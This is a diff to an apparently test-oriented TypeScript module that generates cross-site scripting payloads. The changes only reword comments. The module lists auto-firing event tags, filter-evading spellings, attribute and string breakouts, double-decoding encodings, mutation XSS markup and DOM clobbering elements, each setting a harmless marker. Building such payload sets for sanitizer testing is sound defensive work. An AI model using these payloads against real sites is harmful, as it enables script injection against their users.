@@ -1,7 +1,7 @@
-/** What every payload does when it runs: `window.__ran` is there, or a dialog opens. */
+/** Every payload sets `window.__ran` or opens a dialog. */
 export const CODE = '__ran=1';
 
-/** Elements that act by themselves once they are in a page, with what makes them. */
+/** Elements whose event fires without interaction. */
 export const active: readonly (readonly [tag: string, attributes: string, event: string])[] = [
   ['img', 'src=x', 'onerror'],
   ['img', 'src=/favicon.ico', 'onload'],
@@ -30,14 +30,14 @@ export const active: readonly (readonly [tag: string, attributes: string, event:
   ['div', 'style=width:999px;height:999px', 'onmouseover'],
 ];
 
-/** How one tag may be written so that a filter overlooks it. */
+/** Spellings of one tag that evade naive filters. */
 export const spellings: readonly ((tag: string, attributes: string, event: string) => string)[] = [
   (tag, attributes, event) => `<${tag} ${attributes} ${event}=${CODE}>`,
   (tag, attributes, event) =>
     `<${tag.toUpperCase()}/${attributes.replaceAll(' ', '/')}/${event.toUpperCase()}="${CODE}"//`,
 ];
 
-/** What a text may stand in; each closes it and goes on as markup or script. */
+/** Breaks out of the surrounding element or attribute. */
 export const closers = [
   '">',
   "'>",
@@ -63,7 +63,7 @@ export const closers = [
   '&quot;&gt;',
 ];
 
-/** Ends of strings and statements, for a text that lands in a script, an address or a style. */
+/** Breaks out of a string or statement in a script, URL or style. */
 export const statements = [
   `';${CODE};//`,
   `";${CODE};//`,
@@ -108,7 +108,7 @@ export const addresses = [
   `blob:null/${CODE}`,
 ];
 
-/** Where an address may stand. */
+/** Elements that carry a URL. */
 export const carriers: readonly ((address: string) => string)[] = [
   (address) => address,
   (address) => `<a href="${address}">here</a>`,
@@ -144,7 +144,7 @@ const percent = (text: string): string =>
 const each = (text: string, write: (code: number) => string): string =>
   text.replaceAll(/[<>"'=]/g, (letter) => write(letter.codePointAt(0) ?? 0));
 
-/** The same markup in other letters: decoded once too often, it would run. */
+/** Encoded markup that runs if it is decoded once too often. */
 export const encodings: readonly ((markup: string) => string)[] = [
   (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
   (markup) => markup.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
@@ -186,7 +186,7 @@ export const scripts = [
   `<plaintext>${SCRIPT}`,
 ];
 
-/** Markup that changes its meaning when it is parsed, written out and parsed again. */
+/** Mutation XSS: markup that changes meaning when serialized and parsed again. */
 export const mutations = [
   `<noscript><p title="</noscript>${IMAGE}">`,
   `<svg></p><style><a id="</style>${IMAGE}">`,
@@ -202,7 +202,7 @@ export const mutations = [
   `<p is=x ${IMAGE}`,
 ];
 
-/** Elements that take the place of a name of the page. */
+/** DOM clobbering: elements that shadow a global name. */
 export const clobbering = [
   '<a id=__ran>',
   '<form name=__ran>',
